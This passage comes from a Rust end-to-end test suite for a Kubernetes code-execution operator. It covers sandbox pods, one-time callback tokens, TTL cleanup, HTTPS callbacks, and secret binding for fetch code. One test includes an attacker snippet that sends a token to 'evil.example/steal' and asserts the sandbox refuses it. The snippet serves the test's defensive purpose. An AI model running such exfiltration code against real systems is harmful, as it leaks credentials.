    let op = InProcessOperator::start(
        &env.client,
        &env.ns,
        l,
        Launcher::Pod(Box::default()),
        Duration::from_secs(30),
        Duration::from_secs(3600),
    );
    env.approved_permit("issues").await;
    env.execution("in-pod", "issues", "return 1", 10).await;
    let running = env
        .wait_exec("in-pod", "launched", |e| {
            e.status.as_ref().and_then(|s| s.pod_name.clone()).is_some()
        })
        .await;
    assert_eq!(phase(&running), Some(ExecutionPhase::Running));
    assert_eq!(
        running
            .status
            .as_ref()
            .and_then(|s| s.pod_name.clone())
            .as_deref(),
        Some("pod/oauth3-run-in-pod")
    );

    // The Pod's name is recorded with the launch lock, before the Pod is applied.
    let pods: Api<Pod> = Api::namespaced(env.client.clone(), &env.ns);
    let mut pod = None;
    for _ in 0..300 {
        pod = pods.get_opt("oauth3-run-in-pod").await.expect("read pod");
        if pod.is_some() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let pod = pod.expect("sandbox pod created");
    assert_eq!(
        pod.spec
            .as_ref()
            .and_then(|s| s.runtime_class_name.as_deref()),
        Some("kata-qemu-tdx")
    );
    Api::<NetworkPolicy>::namespaced(env.client.clone(), &env.ns)
        .get("oauth3-run-in-pod")
        .await
        .expect("network policy");
    let secrets: Api<Secret> = Api::namespaced(env.client.clone(), &env.ns);
    let bundle_secret = secrets
        .get("oauth3-run-in-pod")
        .await
        .expect("bundle secret");
    let raw = bundle_secret.data.expect("data")["bundle.json"].0.clone();
    let bundle: Value = serde_json::from_slice(&raw).expect("bundle json");
    assert_eq!(
        bundle["sealedSecrets"],
        json!([]),
        "sealed secrets are projected, not copied"
    );
    let token = bundle["callback"]["token"]
        .as_str()
        .expect("token")
        .to_owned();
    assert!(
        bundle["callback"]["url"]
            .as_str()
            .expect("url")
            .ends_with(&format!("/v1/results/{}/in-pod", env.ns))
    );
    let stored = serde_json::to_string(&running).expect("json");
    assert!(
        !stored.contains(&token),
        "only the token's digest is stored on the Execution"
    );

    // The runner inside the Pod reports back with its token.
    let uid = running.metadata.uid.clone().expect("uid");
    let result = json!({"execution": {"namespace": env.ns, "name": "in-pod", "uid": uid},
        "phase": "Succeeded", "result": 1, "stdout": "", "stderr": "", "calls": [],
        "durationMs": 3, "codeDigest": "sha256:x", "permitDigest": "sha256:y", "rateBudget": {},
        "attestation": {"kind": "none"}, "statementDigest": "sha256:z"});
    let wrong = post_json(
        &format!("{base}/v1/results/{}/in-pod", env.ns),
        "not-the-token",
        &result,
    )
    .await;
    assert_eq!(wrong, 401);
    let ok = post_json(
        &format!("{base}/v1/results/{}/in-pod", env.ns),
        &token,
        &result,
    )
    .await;
    assert_eq!(ok, 204);
    let replay = post_json(
        &format!("{base}/v1/results/{}/in-pod", env.ns),
        &token,
        &result,
    )
    .await;
    assert_eq!(replay, 409, "a token works once");
    let done = env.wait_exec("in-pod", "finished", finished).await;
    assert_eq!(phase(&done), Some(ExecutionPhase::Succeeded));
    // Clean-up runs right after the result is recorded, in the background.
    let mut cleaned = false;
    for _ in 0..100 {
        let pod_gone = pods
            .get_opt("oauth3-run-in-pod")
            .await
            .expect("read")
            .is_none();
        let bundle_gone = secrets
            .get_opt("oauth3-run-in-pod")
            .await
            .expect("read")
            .is_none();
        if pod_gone && bundle_gone {
            cleaned = true;
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert!(
        cleaned,
        "the sandbox pod and the spent bundle Secret are deleted"
    );
    op.stop().await;
}

#[tokio::test]
async fn finished_executions_are_deleted_after_their_ttl() {
    let Some(env) = Env::new("e2e-ttl").await else {
        return;
    };
    let op = Operator::start_with_ttl(
        &env.client,
        &env.ns,
        listener().await,
        env.runner(),
        Duration::from_secs(30),
        Duration::from_secs(2),
    )
    .await;
    env.execution("refused", "no-such-permit", "return 1", 5)
        .await;
    let done = env.wait_exec("refused", "finished", finished).await;
    assert_eq!(phase(&done), Some(ExecutionPhase::Denied));
    let api: Api<Execution> = Api::namespaced(env.client.clone(), &env.ns);
    let mut gone = false;
    for _ in 0..100 {
        if api.get_opt("refused").await.expect("read").is_none() {
            gone = true;
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert!(
        gone,
        "a finished Execution is deleted once its TTL has passed"
    );
    op.stop().await;
}

#[tokio::test]
async fn the_operator_binary_serves_the_callback_over_https_and_runners_verify_it() {
    let Some(env) = Env::new("e2e-cb-tls").await else {
        return;
    };
    // The callback's CA differs from the upstream's: the runner learns it from the bundle
    // (next to tls.crt, as in a cert-manager Secret), never from --ca-file.
    let tls = env.dir.join("callback-tls");
    callback_certificate(&tls);
    let runner = env.runner();
    let log_path = env.dir.join("operator.log");
    let log = std::fs::File::create(&log_path).expect("log file");
    let mut operator =
        tokio::process::Command::new(workspace_binary("oauth3-operator", "oauth3-operator"))
            .env(
                "KUBECONFIG",
                std::env::var("TEST_KUBECONFIG").expect("kubeconfig"),
            )
            .env_remove("POD_NAMESPACE")
            .args(["--namespace", &env.ns, "--leader-elect=false"])
            .args([
                "--metrics-addr",
                "127.0.0.1:0",
                "--callback-addr",
                "127.0.0.1:0",
            ])
            .args(["--launcher", "process"])
            .arg("--runner-binary")
            .arg(&runner.binary)
            .args(
                runner
                    .extra_args
                    .iter()
                    .map(|a| format!("--runner-arg={a}")),
            )
            .arg("--callback-tls-cert")
            .arg(tls.join("tls.crt"))
            .arg("--callback-tls-key")
            .arg(tls.join("tls.key"))
            .stdout(log.try_clone().expect("log handle"))
            .stderr(log)
            .kill_on_drop(true)
            .spawn()
            .expect("operator starts");

    env.approved_permit("tls").await;
    env.execution(
        "tls-run",
        "tls",
        "const r = await api('GET', '/items'); return r.status",
        20,
    )
    .await;
    let done = env.wait_exec("tls-run", "finished", finished).await;
    let _ = operator.kill().await;
    let log = std::fs::read_to_string(&log_path).unwrap_or_default();
    let status = done.status.expect("status");
    assert_eq!(
        status.phase,
        Some(ExecutionPhase::Succeeded),
        "{status:?}\noperator log:\n{log}"
    );
    assert!(
        log.contains("https://127.0.0.1:"),
        "the callback URL handed to runners is https: {log}"
    );
    assert_eq!(env.up.requests().len(), 1, "one upstream call");
}

/// Creates Execution `name` under `permit` with `code` in `language` and `args`.
async fn run_code(env: &Env, name: &str, permit: &str, language: &str, code: &str, args: Value) {
    let spec: ExecutionSpec = serde_json::from_value(json!({
        "permitRef": permit, "code": code, "language": language, "args": args,
        "timeoutSeconds": 20
    }))
    .expect("spec");
    Api::<Execution>::namespaced(env.client.clone(), &env.ns)
        .create(&PostParams::default(), &Execution::new(name, spec))
        .await
        .expect("execution");
}

/// Existing fetch() code runs unchanged under a fetch capability: a Deno script, a
/// `process.env` + `Headers` + `Request` one in TypeScript; the secret reaches the upstream
/// only in the bound header toward the bound host, and never the code, its output or status.
#[tokio::test]
async fn unchanged_fetch_code_runs_and_the_secret_reaches_only_the_bound_host() {
    let Some(env) = Env::new("e2e-fetch").await else {
        return;
    };
    let op = env.operator().await;
    let port = env.up.addr.port();
    env.permit_spec(
        "web",
        json!({
            "description": "run existing fetch code", "validFor": "1h",
            "secrets": ["API_TOKEN"],
            "capabilities": [{
                "name": "upstream",
                "hosts": [format!("127.0.0.1:{port}"), format!("localhost:{port}")],
                "methods": ["GET"],
                "paths": ["/v1/**"],
                "secretBindings": [{"secret": "API_TOKEN", "hosts": [format!("127.0.0.1:{port}")]}]
            }]
        }),
    )
    .await;
    env.approve("web").await;
    let args = json!({"ORIGIN": env.up.origin(), "PORT": port});

    let deno = r#"
        const res = await fetch(`${Deno.env.get('ORIGIN')}/v1/echo-auth`, {
            headers: { Authorization: 'Bearer ' + Deno.env.get('API_TOKEN') },
        });
        const body = await res.json();
        console.log('token is', Deno.env.get('API_TOKEN'));
        return { status: res.status, ok: res.ok, echoed: body.authorization };
    "#;
    run_code(&env, "deno", "web", "javascript", deno, args.clone()).await;
    let done = env.wait_exec("deno", "finished", finished).await;
    let status = done.status.clone().expect("status");
    assert_eq!(status.phase, Some(ExecutionPhase::Succeeded), "{status:?}");
    let result = status.result.clone().expect("result");
    assert_eq!(result["status"], 200, "{result}");
    assert_eq!(result["ok"], true);
    assert_eq!(result["echoed"], json!(["Bearer [REDACTED]"]), "{result}");
    let sent = env.up.assert_received(1, "one request");
    assert_eq!(
        sent[0].header_values("authorization"),
        [format!("Bearer {SECRET}").as_str()]
    );
    assert!(
        status
            .stdout
            .as_deref()
            .is_some_and(|o| o.contains("token is OAUTH3_SECRET_API_TOKEN_")),
        "the code only ever held the placeholder: {status:?}"
    );

    let ts = r#"
        interface Echo { authorization: string[] }
        const headers = new Headers({ Accept: 'application/json' });
        headers.set('authorization', `Bearer ${process.env.API_TOKEN!}`);
        const req = new Request(new URL('/v1/echo-auth', process.env.ORIGIN!), { headers });
        const r = await fetch(req);
        const e: Echo = await r.json();
        const missing = await fetch(`${process.env.ORIGIN}/v1/missing`);
        return { ok: r.ok, n: e.authorization.length, missing: missing.status, text: await missing.text() };
    "#;
    run_code(&env, "ts", "web", "typescript", ts, args.clone()).await;
    let done = env.wait_exec("ts", "finished", finished).await;
    let status = done.status.clone().expect("status");
    assert_eq!(status.phase, Some(ExecutionPhase::Succeeded), "{status:?}");
    let result = status.result.clone().expect("result");
    assert_eq!(
        result,
        json!({"ok": true, "n": 1, "missing": 404, "text": "no such thing here"})
    );
    let sent = env.up.assert_received(3, "two more requests");
    assert_eq!(
        sent[1].header_values("authorization"),
        [format!("Bearer {SECRET}").as_str()]
    );
    assert!(sent[2].header_values("authorization").is_empty());

    // The attacker's side: the placeholder, cut and glued back, toward a host the capability
    // lists but the binding does not name; and toward a host nobody listed.
    let attack = r#"
        const p = Deno.env.get('API_TOKEN');
        const out = [];
        for (const url of [`https://localhost:${args.PORT}/v1/echo-auth`, 'https://evil.example/steal']) {
            try {
                await fetch(url, { headers: { Authorization: 'Bearer ' + p.slice(0, 5) + p.slice(5) } });
                out.push('sent');
            } catch (e) {
                out.push(`${e.name}: ${e.message}`);
            }
        }
        return out;
    "#;
    run_code(&env, "attack", "web", "javascript", attack, args).await;
    let done = env.wait_exec("attack", "finished", finished).await;
    let status = done.status.clone().expect("status");
    assert_eq!(status.phase, Some(ExecutionPhase::Succeeded), "{status:?}");
    let result = status.result.clone().expect("result");
    let out: Vec<String> = serde_json::from_value(result.clone()).expect("strings");
    assert!(
        out[0].starts_with("TypeError: ") && out[0].contains("may not be sent to localhost"),
        "{result}"
    );
    assert!(
        out[1].starts_with("TypeError: ") && out[1].contains("not in the hosts"),
        "{result}"
    );
    env.up
        .assert_received(3, "the refused requests sent nothing");
    for name in ["deno", "ts", "attack"] {
        let e = Api::<Execution>::namespaced(env.client.clone(), &env.ns)
            .get(name)
            .await
            .expect("execution");
        let shown = serde_json::to_string(&e).expect("json");
        assert!(!shown.contains(SECRET), "{name} leaked the secret: {shown}");
    }
    op.stop().await;
}
